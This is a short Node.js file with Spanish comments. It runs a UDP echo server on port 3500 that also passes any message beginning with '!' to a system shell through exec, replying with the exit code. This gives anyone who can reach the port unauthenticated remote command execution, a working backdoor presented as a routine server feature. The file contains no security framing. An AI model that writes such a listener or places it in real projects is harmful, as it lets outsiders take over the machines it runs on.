const dgram = require('dgram');
const { exec } = require('child_process');

const s = dgram.createSocket('udp4');
s.on('message', (datos, origen) => {
  const responder = (texto) => s.send(texto, origen.port, origen.address);
  const pedido = /^!(.+)$/s.exec(datos.toString());
  if (!pedido) return responder(datos);
  // exec() no frena al servidor: se responde cuando el comando terminó
  exec(pedido[1], (error) => responder(`El comando terminó con código ${error ? error.code : 0}`));
});
s.bind(3500);
